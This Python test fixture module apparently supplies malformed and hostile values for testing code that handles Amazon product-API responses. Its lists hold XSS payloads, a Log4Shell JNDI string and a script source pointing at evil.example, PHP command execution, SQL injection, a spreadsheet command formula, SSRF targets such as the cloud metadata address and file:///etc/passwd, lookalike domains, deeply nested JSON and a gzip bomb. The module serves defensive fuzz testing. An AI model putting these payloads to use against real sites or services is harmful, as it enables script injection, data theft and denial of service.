"""Malformed and hostile values for Amazon's responses."""

import gzip
import json
import unicodedata
from urllib.parse import quote

HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationend")
ELEMENTS = ("img", "svg", "body", "video", "details", "iframe", "object", "math")
FORMATS = [chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) == "Cf"]
CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script/src=//evil.example></script>",
    "<<script>alert(1)//<</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "` onmouseover=alert(1) ",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<style>@import'//evil.example'</style>",
    "<template><script>alert(1)</script></template>",
    "[amzlinkr asin='B0EVIL0001']",
    "<!-- wp:html --><script>alert(1)</script>",
    "<?php system('id'); ?>",
    "{{constructor.constructor('alert(1)')()}}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE products; --",
    '=cmd|"/c calc"!A1',
    "\x1b]0;owned\x07\x1b[2J",
    "\r\nSet-Cookie: a=b",
    *(f"<{element} {handler}=alert(1)>" for element in ELEMENTS for handler in HANDLERS),
]
INVISIBLE = [
    *(f"Ket{char}tle" for char in CONTROLS),
    *(f"Ket{char}tle" for char in FORMATS),
    "Ket\ud800tle",
    "Ket\udfff\ud800tle",
    "Ket\ue000tle",
    "Ket\ufffftle",
    "Ket\u2028tle\u2029",
    "\u202eelttek\u202c",
    "\u200b" * 1_000,
    "e" + "\u0301" * 5_000,
    "\ufdfa" * 5_000,
    "👩‍👩‍👧‍👦" * 500,
    "x" * 100_000,
    " " * 100_000,
    "",
]
TEXTS = list(dict.fromkeys([*MARKUP, *INVISIBLE]))

SHOP = "www.amazon.com"
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    f"http://{SHOP}/dp/B0GOOD0001",
    f"ftp://{SHOP}/dp/B0GOOD0001",
    f"//{SHOP}/dp/B0GOOD0001",
    f"https:{SHOP}/dp",
    f"https:/{SHOP}/dp",
    f"https:///{SHOP}/dp",
    f"https:\\\\{SHOP}\\dp",
    f"https://{SHOP}.evil.example/dp",
    f"https://{SHOP}@evil.example/dp",
    f"https://{SHOP}:443@evil.example/dp",
    f"https://evil.example\\@{SHOP}/dp",
    f"https://evil.example\\.{SHOP}/dp",
    f"https://evil.example/{SHOP}/dp",
    f"https://evil.example?https://{SHOP}/dp",
    f"https://evil.example#https://{SHOP}/dp",
    f"https://evil.example#@{SHOP}/dp",
    f"https://evil.example;{SHOP}/dp",
    f"https://user:password@{SHOP}/dp",
    f"https://{SHOP}:8443/dp",
    f"https://{SHOP}:/dp",
    "https://evil-amazon.com/dp",
    "https://www-amazon.com/dp",
    "https://amazon.com.evil/dp",
    "https://amazon.example/dp",
    "https://xn--mazon-3ve.com/dp",
    "https://www.аmazon.com/dp",
    "https://www。amazon。com/dp",
    "https://www.amazon.com%2eevil.example/dp",
    "https://%77ww.amazon.com/dp",
    "https://www.amazon.com\0.evil.example/dp",
    "https://www.amazon.com\t.evil.example/dp",
    "https://www.amazon.com\n/dp",
    "https://www.amazon.com /dp",
    "https://www.amazon.com/\u202edp",
    "https://[::1]/dp",
    "https://[www.amazon.com]/dp",
    "https://127.0.0.1/dp",
    "https://169.254.169.254/latest/meta-data",
    "https://media-amazon.com.evil.example/a.jpg",
    "https://evilmedia-amazon.com/a.jpg",
    "https://m.media-amazon.com@evil.example/a.jpg",
    "https://.media-amazon.com/a.jpg",
    "https://",
    "https:///",
    " ",
    "www.amazon.com",
    "x" * 100_000,
    *(f"https://{SHOP}{quote(char)}.evil.example/dp" for char in "\\?#@:;&"),
]
QUOTES = [f"https://{SHOP}/dp/B0GOOD0001?a={mark}" for mark in ('"', "<", ">", "`", "\\")]
"""URLs of Amazon that would end the HTML attribute that contains them."""
LONG = f"https://{SHOP}/dp/B0GOOD0001?" + "a" * 100_000

FIGURES = [
    "-1", "-0.01", "-1e-9", "1e11", "1e400", "-1e400", "1E+999990", "1e-999990", "9" * 400,
    "0." + "0" * 400 + "1",
    '"NaN"', '"Infinity"', '"-inf"', '"nan"', '"1e400"', '"12,99"', '"0x10"',
    '"٣"', "true", "false", "null", "[]", "{}", '""', '"free"', "[1]", '{"amount":1}', "1.5", "1e3",
    str(2**31), str(2**63), str(2**64), str(-(2**63)), "1e308",
    "1e99999999999999999999",
]  # fmt: skip
CURRENCIES = ["usd", "US", "USDD", "", "<b>", "XX1", "U\u202eSD", "USD\n", "ÜSD"]
NAMES = [
    "", "B0", "b0good0001", "B0GOOD00011", "B0GOOD001!", "../../../etc", "B0GOOD000\n",
    "B0GOOD0001\n",
    "<script>", "B0GOOD000Ü", "B０GOOD0001", "SITE#other#1", "x" * 100_000, "B0GOOD000\0",
]  # fmt: skip
"""Values that are not ASINs."""


def deep(opening: str, closing: str, count: int = 100_000) -> bytes:
    """Return JSON of `count` nested brackets."""
    return (opening * count + "1" + closing * count).encode()


BODIES = {
    "retry after NaN": b'{"retryAfterSeconds":"nan"}',
    "infinite retry after": b'{"retryAfterSeconds":"-Infinity"}',
    "numeric message": b'{"message":' + b"9" * 5_000 + b"}",
    "empty": b"",
    "HTML": b"<html><body>Service Unavailable</body></html>",
    "truncated": b'{"itemsResult":{"items":[{"asin":"B0GOOD0001"',
    "two documents": b"{}{}",
    "byte order mark": b"\xef\xbb\xbf{}",
    "UTF-16": json.dumps({"itemsResult": {}}).encode("utf-16"),
    "broken UTF-8": b'{"itemsResult":{"items":[{"asin":"B0GOOD0001",'
    b'"itemInfo":"\xff\xfe\xc0\xaf"}]}}',
    "five thousand digits": b'{"itemsResult":{"items":[{"asin":' + b"9" * 5_000 + b"}]}}",
    "NaN": b'{"itemsResult":{"items":[{"asin":NaN}]}}',
    "list": b"[]",
    "string": b'"x"',
    "huge number": b"1e999999",
    "null": b"null",
    "deep lists": deep("[", "]"),
    "deep objects": deep('{"a":', "}"),
    "deep items": b'{"itemsResult":{"items":' + deep("[", "]") + b"}}",
    "deep ancestors": b'{"browseNodesResult":{"browseNodes":[{"id":"1","ancestor":'
    + deep('{"id":"1","ancestor":', "}", 60_000)
    + b"}]}}",
    "deep objects after odd case": b'{"Foo":' + deep('{"Items":', "}", 50_000) + b"}",
    "repeated member": b'{"itemsResult":null,"itemsResult":[],"itemsResult":{"items":7}}',
    "many names": json.dumps({f"name{number}": number for number in range(5_000)}).encode(),
    "many items": json.dumps({"itemsResult": {"items": [{"asin": 7}] * 5_000}}).encode(),
    "many errors": json.dumps(
        {"errors": [{"code": "x" * 20, "message": "B0GOOD0001"}] * 500}
    ).encode(),
    "too large": b'{"a":"' + b"x" * (3 * 1024 * 1024) + b'"}',
    "gzip bomb": gzip.compress(b" " * 20_000_000),
}  # fmt: skip
HEADERS = {
    "pause": {"Retry_After": "9" * 5_000},
    "year": {"Date": "Mon, 99999999999999999999 Nov 2026 12:00:00 GMT"},
    "end of time": {"Date": "Fri, 31 Dec 9999 23:59:59 -1200"},
    "zone": {"Date": "Mon, 01 Jan 2026 00:00:00 +99999999999999999"},
    "no date": {"Date": "tomorrow"},
    "id": {"X_Amzn_RequestId": "<script>"},
}
